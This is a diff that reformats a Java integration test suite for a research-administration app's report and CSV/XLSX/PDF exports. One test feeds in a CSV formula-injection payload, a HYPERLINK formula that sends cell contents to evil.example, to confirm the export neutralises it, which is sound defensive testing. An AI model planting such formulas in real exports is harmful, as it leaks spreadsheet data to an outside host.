@@ -150,8 +150,10 @@ class ReportsIT {
   }
 
   private long centreId(String code, String token) throws Exception {
-    return Json.createReader(new StringReader(http().get("api/v1/centres", token).body())).readArray()
-        .getValuesAs(JsonObject.class).stream()
+    return Json.createReader(new StringReader(http().get("api/v1/centres", token).body()))
+        .readArray()
+        .getValuesAs(JsonObject.class)
+        .stream()
         .filter(c -> c.getString("code").equals(code))
         .findFirst()
         .orElseThrow()
@@ -166,8 +168,13 @@ class ReportsIT {
 
     HttpResponse<byte[]> r = ok(fetch("api/v1/reports/annual?year=2020&format=pdf", council, null));
 
-    assertThat(r.headers().firstValue("Content-Type")).get().asString().startsWith("application/pdf");
-    assertThat(r.headers().firstValue("Content-Disposition")).get().asString()
+    assertThat(r.headers().firstValue("Content-Type"))
+        .get()
+        .asString()
+        .startsWith("application/pdf");
+    assertThat(r.headers().firstValue("Content-Disposition"))
+        .get()
+        .asString()
         .contains("attachment", "annual-report-2020.pdf");
     String text = pdfText(r.body());
     assertThat(squeezed(text))
@@ -180,7 +187,9 @@ class ReportsIT {
     for (JsonObject kpi : kpis.getValuesAs(JsonObject.class)) {
       String code = kpi.getString("code");
       String line =
-          text.lines().filter(l -> l.contains(code)).findFirst()
+          text.lines()
+              .filter(l -> l.contains(code))
+              .findFirst()
               .orElseThrow(() -> new AssertionError("no row for " + code + " in\n" + text));
       List<String> cells = List.of(line.trim().split("\\s+"));
       assertThat(cells).as(line).contains(grouped(kpi.getJsonNumber("target").longValue()));
@@ -199,7 +208,8 @@ class ReportsIT {
     String auditor = http().tokenFor("auditor");
     JsonArray kpis = kpis(auditor);
 
-    HttpResponse<byte[]> xlsx = ok(fetch("api/v1/reports/annual?year=2020&format=xlsx", auditor, null));
+    HttpResponse<byte[]> xlsx =
+        ok(fetch("api/v1/reports/annual?year=2020&format=xlsx", auditor, null));
     assertThat(xlsx.headers().firstValue("Content-Type")).get().asString().startsWith(XLSX);
     try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx.body()))) {
       Sheet sheet = workbook.getSheet("KPIs");
@@ -215,32 +225,43 @@ class ReportsIT {
           }
         }
         assertThat(row).as(kpi.getString("code")).isNotNull();
-        assertThat((long) row.getCell(4).getNumericCellValue()).isEqualTo(kpi.getJsonNumber("target").longValue());
+        assertThat((long) row.getCell(4).getNumericCellValue())
+            .isEqualTo(kpi.getJsonNumber("target").longValue());
         Row found = row;
-        actual(kpi).ifPresent(a -> assertThat((long) found.getCell(5).getNumericCellValue()).isEqualTo(a));
+        actual(kpi)
+            .ifPresent(a -> assertThat((long) found.getCell(5).getNumericCellValue()).isEqualTo(a));
         assertThat(row.getCell(8).getStringCellValue()).isEqualTo(kpi.getString("status"));
       }
     }
 
-    HttpResponse<byte[]> csv = ok(fetch("api/v1/reports/annual?year=2020&format=csv", auditor, null));
+    HttpResponse<byte[]> csv =
+        ok(fetch("api/v1/reports/annual?year=2020&format=csv", auditor, null));
     assertThat(csv.headers().firstValue("Content-Type")).get().asString().startsWith("text/csv");
     List<CSVRecord> records = csv(csv.body());
     for (JsonObject kpi : kpis.getValuesAs(JsonObject.class)) {
       CSVRecord record =
-          records.stream().filter(c -> c.get(0).equals(kpi.getString("code"))).findFirst().orElseThrow();
+          records.stream()
+              .filter(c -> c.get(0).equals(kpi.getString("code")))
+              .findFirst()
+              .orElseThrow();
       assertThat(record.get(4)).isEqualTo(Long.toString(kpi.getJsonNumber("target").longValue()));
       actual(kpi).ifPresent(a -> assertThat(record.get(5)).isEqualTo(Long.toString(a)));
     }
   }
 
   /** The funding API's by-year rows summed as the report does: the year alone, or up to its end. */
-  private static BigDecimal fundingSum(JsonArray byYear, int year, boolean cumulative, String column, String currency) {
+  private static BigDecimal fundingSum(
+      JsonArray byYear, int year, boolean cumulative, String column, String currency) {
     BigDecimal sum = BigDecimal.ZERO;
     for (JsonObject row : byYear.getValuesAs(JsonObject.class)) {
       int key = Integer.parseInt(row.getString("key"));
       if (cumulative ? key <= year : key == year) {
-        sum = sum.add(row.getJsonObject(column).getJsonObject(currency.toLowerCase(java.util.Locale.ROOT))
-            .getJsonNumber("amount").bigDecimalValue());
+        sum =
+            sum.add(
+                row.getJsonObject(column)
+                    .getJsonObject(currency.toLowerCase(java.util.Locale.ROOT))
+                    .getJsonNumber("amount")
+                    .bigDecimalValue());
       }
     }
     return sum;
@@ -249,22 +270,30 @@ class ReportsIT {
   /** Funder code (or "Total") to its by-year rows, as {@code GET /api/v1/funding} reports them. */
   private Map<String, JsonArray> fundingByYear(String token) throws Exception {
     Map<String, String> codes = new java.util.HashMap<>();
-    for (JsonObject p : Http.json(http().get("api/v1/partners?limit=200", token)).getJsonArray("items")
-        .getValuesAs(JsonObject.class)) {
-      codes.put(Long.toString(p.getJsonObject("id").getJsonNumber("value").longValue()), p.getString("code"));
+    for (JsonObject p :
+        Http.json(http().get("api/v1/partners?limit=200", token))
+            .getJsonArray("items")
+            .getValuesAs(JsonObject.class)) {
+      codes.put(
+          Long.toString(p.getJsonObject("id").getJsonNumber("value").longValue()),
+          p.getString("code"));
     }
     JsonObject all = Http.json(http().get("api/v1/funding?limit=1", token));
     Map<String, JsonArray> byYear = new java.util.LinkedHashMap<>();
     byYear.put("Total", all.getJsonArray("byYear"));
     for (JsonObject funder : all.getJsonArray("byFunder").getValuesAs(JsonObject.class)) {
       String id = funder.getString("key");
-      byYear.put(codes.get(id), Http.json(http().get("api/v1/funding?funder=" + id + "&limit=1", token)).getJsonArray("byYear"));
+      byYear.put(
+          codes.get(id),
+          Http.json(http().get("api/v1/funding?funder=" + id + "&limit=1", token))
+              .getJsonArray("byYear"));
     }
     return byYear;
   }
 
   private static String money(BigDecimal amount) {
-    return new java.text.DecimalFormat("#,##0.00", java.text.DecimalFormatSymbols.getInstance(java.util.Locale.ENGLISH))
+    return new java.text.DecimalFormat(
+            "#,##0.00", java.text.DecimalFormatSymbols.getInstance(java.util.Locale.ENGLISH))
         .format(amount);
   }
 
@@ -279,8 +308,10 @@ class ReportsIT {
     assertThat(uses).isNotEmpty();
     long founded = 0;
     long foundedInYear = 0;
-    for (JsonObject s : Http.json(http().get("api/v1/spin-offs?limit=200", council)).getJsonArray("items")
-        .getValuesAs(JsonObject.class)) {
+    for (JsonObject s :
+        Http.json(http().get("api/v1/spin-offs?limit=200", council))
+            .getJsonArray("items")
+            .getValuesAs(JsonObject.class)) {
       java.time.LocalDate on = java.time.LocalDate.parse(s.getString("foundedOn"));
       if (on.getYear() <= year) {
         founded++;
@@ -290,7 +321,9 @@ class ReportsIT {
     String[] columns = {"committed", "disbursed", "spent"};
 
     // PDF: a row per funder, period and currency, figures as printed
-    String text = pdfText(ok(fetch("api/v1/reports/annual?year=" + year + "&format=pdf", council, null)).body());
+    String text =
+        pdfText(
+            ok(fetch("api/v1/reports/annual?year=" + year + "&format=pdf", council, null)).body());
     assertThat(squeezed(text))
         .contains("Funding:committed,disbursedandspent", "资金：承诺、拨付与支出")
         .contains("Headquartersspaceandspin-offs", "总部空间与衍生企业");
@@ -298,37 +331,68 @@ class ReportsIT {
       for (boolean cumulative : new boolean[] {false, true}) {
         for (String currency : List.of("SGD", "CNY")) {
           List<String> cells =
-              text.lines().map(l -> List.of(l.trim().split("\\s+")))
-                  .filter(c -> c.size() == 6 && c.get(0).equals(funder.getKey()) && c.get(2).equals(currency)
-                      && c.get(1).endsWith(Integer.toString(year)) && (c.get(1).length() > 4) == cumulative)
+              text.lines()
+                  .map(l -> List.of(l.trim().split("\\s+")))
+                  .filter(
+                      c ->
+                          c.size() == 6
+                              && c.get(0).equals(funder.getKey())
+                              && c.get(2).equals(currency)
+                              && c.get(1).endsWith(Integer.toString(year))
+                              && (c.get(1).length() > 4) == cumulative)
                   .findFirst()
-                  .orElseThrow(() -> new AssertionError("no row " + funder.getKey() + " " + currency + " in\n" + text));
+                  .orElseThrow(
+                      () ->
+                          new AssertionError(
+                              "no row " + funder.getKey() + " " + currency + " in\n" + text));
           for (int i = 0; i < columns.length; i++) {
-            assertThat(cells.get(3 + i)).as(cells.toString())
-                .isEqualTo(money(fundingSum(funder.getValue(), year, cumulative, columns[i], currency)));
+            assertThat(cells.get(3 + i))
+                .as(cells.toString())
+                .isEqualTo(
+                    money(fundingSum(funder.getValue(), year, cumulative, columns[i], currency)));
           }
         }
       }
     }
     assertThat(money(fundingSum(funding.get("Total"), 2025, true, "committed", "SGD")))
-        .as("over the whole phase, the S$61 million and more").isNotEqualTo("0.00");
+        .as("over the whole phase, the S$61 million and more")
+        .isNotEqualTo("0.00");
     for (JsonObject use : uses) {
-      String line = text.lines().filter(l -> l.trim().startsWith(use.getString("use") + " ")).findFirst()
-          .orElseThrow(() -> new AssertionError("no row for " + use.getString("use") + " in\n" + text));
-      assertThat(List.of(line.trim().split("\\s+"))).as(line).containsSubsequence(
-          grouped(use.getInt("unitsSqm")), grouped(use.getInt("allocatedSqm")), grouped(use.getInt("freeSqm")));
+      String line =
+          text.lines()
+              .filter(l -> l.trim().startsWith(use.getString("use") + " "))
+              .findFirst()
+              .orElseThrow(
+                  () -> new AssertionError("no row for " + use.getString("use") + " in\n" + text));
+      assertThat(List.of(line.trim().split("\\s+")))
+          .as(line)
+          .containsSubsequence(
+              grouped(use.getInt("unitsSqm")),
+              grouped(use.getInt("allocatedSqm")),
+              grouped(use.getInt("freeSqm")));
     }
-    String building = text.lines().filter(l -> l.trim().startsWith("BUILDING ")).findFirst().orElseThrow();
-    assertThat(List.of(building.trim().split("\\s+"))).containsSubsequence(
-        grouped(space.getInt("buildingSqm")), grouped(space.getInt("allocatedSqm")), grouped(space.getInt("freeSqm")));
-    String spinOffs = text.lines().filter(l -> l.contains("Spin-off companies founded")).findFirst().orElseThrow();
+    String building =
+        text.lines().filter(l -> l.trim().startsWith("BUILDING ")).findFirst().orElseThrow();
+    assertThat(List.of(building.trim().split("\\s+")))
+        .containsSubsequence(
+            grouped(space.getInt("buildingSqm")),
+            grouped(space.getInt("allocatedSqm")),
+            grouped(space.getInt("freeSqm")));
+    String spinOffs =
+        text.lines()
+            .filter(l -> l.contains("Spin-off companies founded"))
+            .findFirst()
+            .orElseThrow();
     List<String> spinOffCells = List.of(spinOffs.trim().split("\\s+"));
     assertThat(spinOffCells.subList(spinOffCells.size() - 2, spinOffCells.size()))
         .containsExactly(grouped(foundedInYear), grouped(founded));
 
     // XLSX: a sheet per table, numbers as numbers
-    try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(
-        ok(fetch("api/v1/reports/annual?year=" + year + "&format=xlsx", council, null)).body()))) {
+    try (XSSFWorkbook workbook =
+        new XSSFWorkbook(
+            new ByteArrayInputStream(
+                ok(fetch("api/v1/reports/annual?year=" + year + "&format=xlsx", council, null))
+                    .body()))) {
       Sheet sheet = workbook.getSheet("Funding by funder");
       assertThat(sheet).isNotNull();
       assertThat(sheet.getRow(1).getCell(3).getStringCellValue()).isEqualTo("Committed (承诺)");
@@ -339,7 +403,9 @@ class ReportsIT {
         boolean cumulative = row.getCell(1).getStringCellValue().length() > 4;
         for (int i = 0; i < columns.length; i++) {
           assertThat(BigDecimal.valueOf(row.getCell(3 + i).getNumericCellValue()))
-              .isEqualByComparingTo(fundingSum(byYear, year, cumulative, columns[i], row.getCell(2).getStringCellValue()));
+              .isEqualByComparingTo(
+                  fundingSum(
+                      byYear, year, cumulative, columns[i], row.getCell(2).getStringCellValue()));
         }
         checked++;
       }
@@ -354,42 +420,58 @@ class ReportsIT {
         }
         assertThat(row).as(use.getString("use")).isNotNull();
         assertThat((int) row.getCell(1).getNumericCellValue()).isEqualTo(use.getInt("unitsSqm"));
-        assertThat((int) row.getCell(2).getNumericCellValue()).isEqualTo(use.getInt("allocatedSqm"));
+        assertThat((int) row.getCell(2).getNumericCellValue())
+            .isEqualTo(use.getInt("allocatedSqm"));
         assertThat((int) row.getCell(3).getNumericCellValue()).isEqualTo(use.getInt("freeSqm"));
       }
-      assertThat((long) workbook.getSheet("Spin-offs").getRow(2).getCell(3).getNumericCellValue()).isEqualTo(founded);
+      assertThat((long) workbook.getSheet("Spin-offs").getRow(2).getCell(3).getNumericCellValue())
+          .isEqualTo(founded);
     }
 
     // CSV: the same tables one after another
-    List<CSVRecord> csv = csv(ok(fetch("api/v1/reports/annual?year=" + year + "&format=csv", council, null)).body());
+    List<CSVRecord> csv =
+        csv(ok(fetch("api/v1/reports/annual?year=" + year + "&format=csv", council, null)).body());
     for (Map.Entry<String, JsonArray> funder : funding.entrySet()) {
-      List<CSVRecord> rows = csv.stream().filter(c -> c.size() == 6 && c.get(0).equals(funder.getKey())).toList();
+      List<CSVRecord> rows =
+          csv.stream().filter(c -> c.size() == 6 && c.get(0).equals(funder.getKey())).toList();
       assertThat(rows).as(funder.getKey()).hasSize(4);
       for (CSVRecord row : rows) {
         for (int i = 0; i < columns.length; i++) {
-          assertThat(new BigDecimal(row.get(3 + i))).as(row.toString()).isEqualByComparingTo(
-              fundingSum(funder.getValue(), year, row.get(1).length() > 4, columns[i], row.get(2)));
+          assertThat(new BigDecimal(row.get(3 + i)))
+              .as(row.toString())
+              .isEqualByComparingTo(
+                  fundingSum(
+                      funder.getValue(), year, row.get(1).length() > 4, columns[i], row.get(2)));
         }
       }
     }
-    CSVRecord total = csv.stream().filter(c -> c.get(0).equals("BUILDING")).findFirst().orElseThrow();
+    CSVRecord total =
+        csv.stream().filter(c -> c.get(0).equals("BUILDING")).findFirst().orElseThrow();
     assertThat(total.get(1)).isEqualTo(Integer.toString(space.getInt("buildingSqm")));
     assertThat(total.get(2)).isEqualTo(Integer.toString(space.getInt("allocatedSqm")));
     assertThat(total.get(3)).isEqualTo(Integer.toString(space.getInt("freeSqm")));
   }
 
   @Test
-  void onlyAdminsTheCouncilAndAuditorsGetTheAnnualReportAndBadParametersAreRefused() throws Exception {
-    Expect.problem(http().get("api/v1/reports/annual?year=2020&format=pdf", http().tokenFor("ntu.staff")), 403);
-    Expect.problem(http().get("api/v1/reports/annual?year=2020", http().tokenFor("coordinator")), 403);
+  void onlyAdminsTheCouncilAndAuditorsGetTheAnnualReportAndBadParametersAreRefused()
+      throws Exception {
+    Expect.problem(
+        http().get("api/v1/reports/annual?year=2020&format=pdf", http().tokenFor("ntu.staff")),
+        403);
+    Expect.problem(
+        http().get("api/v1/reports/annual?year=2020", http().tokenFor("coordinator")), 403);
     Expect.problem(http().get("api/v1/reports/annual?year=2020", null), 401);
     String admin = http().tokenFor("admin");
     assertThat(ok(fetch("api/v1/reports/annual?year=2021", admin, null)).body())
-        .as("PDF is the default").startsWith("%PDF".getBytes(StandardCharsets.US_ASCII));
-    Expect.violations(http().get("api/v1/reports/annual?year=1999&format=pdf", admin), "year:field.outOfRange");
+        .as("PDF is the default")
+        .startsWith("%PDF".getBytes(StandardCharsets.US_ASCII));
+    Expect.violations(
+        http().get("api/v1/reports/annual?year=1999&format=pdf", admin), "year:field.outOfRange");
     Expect.violations(http().get("api/v1/reports/annual?format=pdf", admin), "year:field.required");
     Expect.violations(http().get("api/v1/reports/annual?year=abc", admin), "year:field.notInteger");
-    Expect.violations(http().get("api/v1/reports/annual?year=2020&format=docx", admin), "format:field.notAllowedValue");
+    Expect.violations(
+        http().get("api/v1/reports/annual?year=2020&format=docx", admin),
+        "format:field.notAllowedValue");
     // a list has no PDF: not acceptable, as a problem
     Expect.problem(http().get("api/v1/projects?format=pdf", admin), 406);
   }
@@ -403,16 +485,32 @@ class ReportsIT {
     JsonObject json = Http.json(http().get(filter + "&limit=200", admin));
     List<JsonObject> items = json.getJsonArray("items").getValuesAs(JsonObject.class);
     assertThat(items).isNotEmpty();
-    assertThat(json.getJsonNumber("total").longValue()).isLessThan(total("api/v1/projects?limit=1", admin));
+    assertThat(json.getJsonNumber("total").longValue())
+        .isLessThan(total("api/v1/projects?limit=1", admin));
 
     HttpResponse<byte[]> r = ok(fetch(filter + "&format=csv", admin, null));
-    assertThat(r.headers().firstValue("Content-Type")).get().asString().isEqualTo("text/csv;charset=UTF-8");
-    assertThat(r.headers().firstValue("Content-Disposition")).get().asString()
+    assertThat(r.headers().firstValue("Content-Type"))
+        .get()
+        .asString()
+        .isEqualTo("text/csv;charset=UTF-8");
+    assertThat(r.headers().firstValue("Content-Disposition"))
+        .get()
+        .asString()
         .isEqualTo("attachment; filename=\"projects.csv\"");
     List<CSVRecord> records = csv(r.body());
     assertThat(records.get(0).values())
-        .containsExactly("id", "titleEn", "titleZh", "centreCode", "partners", "startDate", "endDate",
-            "budgetAmount", "budgetCurrency", "status", "approvalReference");
+        .containsExactly(
+            "id",
+            "titleEn",
+            "titleZh",
+            "centreCode",
+            "partners",
+            "startDate",
+            "endDate",
+            "budgetAmount",
+            "budgetCurrency",
+            "status",
+            "approvalReference");
     List<CSVRecord> rows = records.subList(1, records.size());
     assertThat(rows).hasSize(items.size());
     for (int i = 0; i < items.size(); i++) {
@@ -423,7 +521,8 @@ class ReportsIT {
       assertThat(c.get("titleZh")).isEqualTo(p.isNull("titleZh") ? "" : p.getString("titleZh"));
       assertThat(c.get("centreCode")).isEqualTo("DIGITAL");
       assertThat(c.get("startDate")).isEqualTo(p.getString("startDate"));
-      assertThat(new BigDecimal(c.get("budgetAmount"))).isEqualByComparingTo(p.getJsonNumber("budgetAmount").bigDecimalValue());
+      assertThat(new BigDecimal(c.get("budgetAmount")))
+          .isEqualByComparingTo(p.getJsonNumber("budgetAmount").bigDecimalValue());
       assertThat(c.get("budgetCurrency")).isEqualTo(p.getString("budgetCurrency"));
       assertThat(c.get("status")).isEqualTo(p.getString("status"));
     }
@@ -437,12 +536,20 @@ class ReportsIT {
           .isEqualTo(items.get(0).getJsonNumber("id").longValue());
     }
     HttpResponse<byte[]> plain = ok(fetch(filter, admin, null));
-    assertThat(plain.headers().firstValue("Content-Type")).get().asString().startsWith("application/json");
+    assertThat(plain.headers().firstValue("Content-Type"))
+        .get()
+        .asString()
+        .startsWith("application/json");
 
     // the dashboard, centres, papers and the other modules' lists export the same way
     for (String list :
-        List.of("api/v1/kpis", "api/v1/centres", "api/v1/publications?year=2020", "api/v1/licence-deals",
-            "api/v1/patents", "api/v1/cohorts")) {
+        List.of(
+            "api/v1/kpis",
+            "api/v1/centres",
+            "api/v1/publications?year=2020",
+            "api/v1/licence-deals",
+            "api/v1/patents",
+            "api/v1/cohorts")) {
       HttpResponse<byte[]> export =
           ok(fetch(list + (list.contains("?") ? "&" : "?") + "format=csv", admin, null));
       assertThat(csv(export.body())).as(list).hasSizeGreaterThan(1);
@@ -450,32 +557,46 @@ class ReportsIT {
     List<CSVRecord> deals = csv(ok(fetch("api/v1/licence-deals?format=csv", admin, null)).body());
     assertThat(deals.get(0).values()).contains("totalValue", "currency");
     assertThat(deals.size() - 1).isEqualTo((int) total("api/v1/licence-deals?limit=1", admin));
-    List<CSVRecord> papers = csv(ok(fetch("api/v1/publications?year=2020&format=csv", admin, null)).body());
-    assertThat(papers.size() - 1).isEqualTo((int) total("api/v1/publications?year=2020&limit=1", admin));
-    Expect.violations(http().get("api/v1/projects?format=html", admin), "format:field.notAllowedValue");
+    List<CSVRecord> papers =
+        csv(ok(fetch("api/v1/publications?year=2020&format=csv", admin, null)).body());
+    assertThat(papers.size() - 1)
+        .isEqualTo((int) total("api/v1/publications?year=2020&limit=1", admin));
+    Expect.violations(
+        http().get("api/v1/projects?format=html", admin), "format:field.notAllowedValue");
   }
 
   @Test
   void anExportNeverRunsAFormulaSomeoneTypedIntoARecord() throws Exception {
     String admin = http().tokenFor("admin");
     long project =
-        Http.json(http().get("api/v1/projects?limit=1", admin)).getJsonArray("items").getJsonObject(0)
-            .getJsonNumber("id").longValue();
+        Http.json(http().get("api/v1/projects?limit=1", admin))
+            .getJsonArray("items")
+            .getJsonObject(0)
+            .getJsonNumber("id")
+            .longValue();
     String title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
     HttpResponse<String> created =
-        http().json("POST", "api/v1/publications", admin, Json.createObjectBuilder()
-            .add("title", title)
-            .add("journal", "+Journal of Injection")
-            .add("year", 2024)
-            .add("doi", "10.5555/csv." + System.nanoTime())
-            .add("authors", "@Mallory; -Eve")
-            .add("project", project)
-            .build().toString());
+        http()
+            .json(
+                "POST",
+                "api/v1/publications",
+                admin,
+                Json.createObjectBuilder()
+                    .add("title", title)
+                    .add("journal", "+Journal of Injection")
+                    .add("year", 2024)
+                    .add("doi", "10.5555/csv." + System.nanoTime())
+                    .add("authors", "@Mallory; -Eve")
+                    .add("project", project)
+                    .build()
+                    .toString());
     assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
     long id = Http.json(created).getJsonNumber("id").longValue();
 
     List<CSVRecord> records =
-        csv(ok(fetch("api/v1/publications?project=" + project + "&format=csv", admin, null)).body());
+        csv(
+            ok(fetch("api/v1/publications?project=" + project + "&format=csv", admin, null))
+                .body());
     CSVRecord row =
         records.stream().filter(c -> c.get(0).equals(Long.toString(id))).findFirst().orElseThrow();
     Map<String, String> cells = named(records, row);
@@ -484,8 +605,11 @@ class ReportsIT {
     assertThat(cells.get("authors")).isEqualTo("'@Mallory; -Eve");
     // the record itself is kept as typed
     String json = http().get("api/v1/publications?project=" + project + "&limit=200", admin).body();
-    assertThat(Json.createReader(new StringReader(json)).readObject().getJsonArray("items")
-            .getValuesAs(JsonObject.class))
+    assertThat(
+            Json.createReader(new StringReader(json))
+                .readObject()
+                .getJsonArray("items")
+                .getValuesAs(JsonObject.class))
         .anySatisfy(p -> assertThat(p.getString("title")).isEqualTo(title));
   }
 
@@ -496,7 +620,8 @@ class ReportsIT {
 
     List<String> own = new ArrayList<>();
     for (JsonObject p :
-        Http.json(http().get("api/v1/projects?limit=200", ntuStaff)).getJsonArray("items")
+        Http.json(http().get("api/v1/projects?limit=200", ntuStaff))
+            .getJsonArray("items")
             .getValuesAs(JsonObject.class)) {
       own.add(Long.toString(p.getJsonNumber("id").longValue()));
     }
@@ -513,12 +638,14 @@ class ReportsIT {
         .allSatisfy(c -> assertThat(named(exported, c).get("partners")).contains("NTU"));
     // papers are scoped with their projects; KPIs and other partners' deals stay closed
     long ntuPapers = total("api/v1/publications?limit=1", ntuStaff);
-    assertThat(csv(ok(fetch("api/v1/publications?format=csv", ntuStaff, null)).body())).hasSize((int) ntuPapers + 1);
+    assertThat(csv(ok(fetch("api/v1/publications?format=csv", ntuStaff, null)).body()))
+        .hasSize((int) ntuPapers + 1);
     Expect.problem(http().get("api/v1/kpis?format=csv", ntuStaff), 403);
     String gkcStaff = http().tokenFor("gkc.staff");
     long gkcDeals = total("api/v1/licence-deals?limit=1", gkcStaff);
     assertThat(gkcDeals).isLessThan(total("api/v1/licence-deals?limit=1", admin));
-    assertThat(csv(ok(fetch("api/v1/licence-deals?format=csv", gkcStaff, null)).body())).hasSize((int) gkcDeals + 1);
+    assertThat(csv(ok(fetch("api/v1/licence-deals?format=csv", gkcStaff, null)).body()))
+        .hasSize((int) gkcDeals + 1);
     Expect.problem(http().get("api/v1/projects?format=csv", http().tokenFor("coordinator")), 403);
     Expect.problem(http().get("api/v1/projects?format=csv", null), 401);
   }
@@ -528,22 +655,32 @@ class ReportsIT {
     String admin = http().tokenFor("admin");
     long before = actual(kpi(kpis(admin), "PATENTS_2025")).orElseThrow();
     JsonObject family =
-        Http.json(http().get("api/v1/patents?limit=1", admin)).getJsonArray("families").getJsonObject(0);
+        Http.json(http().get("api/v1/patents?limit=1", admin))
+            .getJsonArray("families")
+            .getJsonObject(0);
     long familyId = family.getJsonNumber("id").longValue();
 
     HttpResponse<String> filed =
-        http().json("POST", "api/v1/patents/" + familyId + "/applications", admin, """
+        http()
+            .json(
+                "POST",
+                "api/v1/patents/" + familyId + "/applications",
+                admin,
+                """
             {"jurisdiction":"JP","applicationNumber":"JP2025-%d","filingDate":"2025-06-30",
              "status":"FILED"}
-            """.formatted(System.nanoTime() % 1_000_000));
+            """
+                    .formatted(System.nanoTime() % 1_000_000));
     assertThat(filed.statusCode()).as(filed.body()).isEqualTo(201);
 
     JsonObject after = kpi(kpis(http().tokenFor("council")), "PATENTS_2025");
     assertThat(actual(after)).contains(before + 1);
     assertThat(after.getJsonObject("byYear").getJsonNumber("2025").longValue()).isPositive();
     // the annual report of that year counts it too
-    List<CSVRecord> report = csv(ok(fetch("api/v1/reports/annual?year=2025&format=csv", admin, null)).body());
-    CSVRecord kpiRow = report.stream().filter(c -> c.get(0).equals("PATENTS_2025")).findFirst().orElseThrow();
+    List<CSVRecord> report =
+        csv(ok(fetch("api/v1/reports/annual?year=2025&format=csv", admin, null)).body());
+    CSVRecord kpiRow =
+        report.stream().filter(c -> c.get(0).equals("PATENTS_2025")).findFirst().orElseThrow();
     assertThat(kpiRow.get(5)).isEqualTo(Long.toString(before + 1));
   }
 
@@ -580,14 +717,20 @@ class ReportsIT {
   /** Waits for a finished download whose name ends so, and returns its bytes. */
   private static byte[] downloaded(String suffix) {
     Path[] found = new Path[1];
-    Browser.waitFor(browser).until(d -> {
-      try (Stream<Path> files = Files.list(downloads)) {
-        found[0] = files.filter(f -> f.getFileName().toString().endsWith(suffix)).findFirst().orElse(null);
-        return found[0] != null && Files.size(found[0]) > 0;
-      } catch (IOException e) {
-        return false;
-      }
-    });
+    Browser.waitFor(browser)
+        .until(
+            d -> {
+              try (Stream<Path> files = Files.list(downloads)) {
+                found[0] =
+                    files
+                        .filter(f -> f.getFileName().toString().endsWith(suffix))
+                        .findFirst()
+                        .orElse(null);
+                return found[0] != null && Files.size(found[0]) > 0;
+              } catch (IOException e) {
+                return false;
+              }
+            });
     try {
       byte[] bytes = Files.readAllBytes(found[0]);
       Files.delete(found[0]);
@@ -608,8 +751,10 @@ class ReportsIT {
     year.clear();
     year.sendKeys("1999");
     browser.findElement(By.id("report:generate")).click();
-    Browser.waitFor(browser).until(d -> !d.findElement(By.id("report:yearMessage")).getText().isBlank());
-    assertThat(browser.findElement(By.id("report:yearMessage")).getText()).isEqualTo("Enter a year from 2015 to 2200.");
+    Browser.waitFor(browser)
+        .until(d -> !d.findElement(By.id("report:yearMessage")).getText().isBlank());
+    assertThat(browser.findElement(By.id("report:yearMessage")).getText())
+        .isEqualTo("Enter a year from 2015 to 2200.");
 
     year = browser.findElement(By.id("report:year"));
     year.clear();
@@ -619,10 +764,17 @@ class ReportsIT {
     browser.findElement(By.id("report:generate")).click();
     // the first report loads the CJK font: give a busy machine time
     new org.openqa.selenium.support.ui.WebDriverWait(browser, Duration.ofSeconds(120))
-        .until(org.openqa.selenium.support.ui.ExpectedConditions.presenceOfElementLocated(By.id("report:download")));
-    Browser.waitFor(browser).until(
-        d -> "100%".equals(d.findElement(By.id("report:progressText")).getAttribute("textContent")));
-    assertThat(browser.findElement(By.id("report-ready")).getText()).contains("annual-report-2020.pdf");
+        .until(
+            org.openqa.selenium.support.ui.ExpectedConditions.presenceOfElementLocated(
+                By.id("report:download")));
+    Browser.waitFor(browser)
+        .until(
+            d ->
+                "100%"
+                    .equals(
+                        d.findElement(By.id("report:progressText")).getAttribute("textContent")));
+    assertThat(browser.findElement(By.id("report-ready")).getText())
+        .contains("annual-report-2020.pdf");
     Browser.screenshot(browser, "56-report-ready");
 
     browser.findElement(By.id("report:download")).click();
@@ -631,13 +783,17 @@ class ReportsIT {
     try (PDDocument document = Loader.loadPDF(pdf)) {
       Path dir = Path.of(System.getProperty("it.screenshots", "target/screenshots"));
       Files.createDirectories(dir);
-      ImageIO.write(new PDFRenderer(document).renderImageWithDPI(0, 80), "png", dir.resolve("59-annual-report-pdf.png").toFile());
+      ImageIO.write(
+          new PDFRenderer(document).renderImageWithDPI(0, 80),
+          "png",
+          dir.resolve("59-annual-report-pdf.png").toFile());
     }
 
     // the lists export from the same page, in the caller's scope
     browser.findElement(By.cssSelector("tr[data-list='projects'] button[id$='csv']")).click();
     List<CSVRecord> projects = csv(downloaded("projects.csv"));
-    assertThat(projects.size() - 1).isEqualTo((int) total("api/v1/projects?limit=1", http().tokenFor("council")));
+    assertThat(projects.size() - 1)
+        .isEqualTo((int) total("api/v1/projects?limit=1", http().tokenFor("council")));
 
     browser.findElement(By.id("langForm:zh")).click();
     Browser.language(browser, "zh-CN");
@@ -658,7 +814,8 @@ class ReportsIT {
     browser.findElement(By.id("dashboardExport:xlsx")).click();
     byte[] kpis = downloaded("kpis.xlsx");
     try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(kpis))) {
-      assertThat(workbook.getSheetAt(0).getLastRowNum()).isEqualTo(kpis(http().tokenFor("admin")).size());
+      assertThat(workbook.getSheetAt(0).getLastRowNum())
+          .isEqualTo(kpis(http().tokenFor("admin")).size());
     }
 
     browser.get(url("app/records/projects.xhtml"));
@@ -668,7 +825,10 @@ class ReportsIT {
     Browser.until(browser, By.id("projectTable"));
     browser.findElement(By.id("exportCsv")).click();
     List<CSVRecord> rows = csv(downloaded("projects.csv"));
-    assertThat(rows.size() - 1).isEqualTo((int) total("api/v1/projects?status=COMPLETED&limit=1", http().tokenFor("admin")));
-    assertThat(rows.stream().skip(1)).allSatisfy(c -> assertThat(named(rows, c).get("status")).isEqualTo("COMPLETED"));
+    assertThat(rows.size() - 1)
+        .isEqualTo(
+            (int) total("api/v1/projects?status=COMPLETED&limit=1", http().tokenFor("admin")));
+    assertThat(rows.stream().skip(1))
+        .allSatisfy(c -> assertThat(named(rows, c).get("status")).isEqualTo("COMPLETED"));
   }
 }
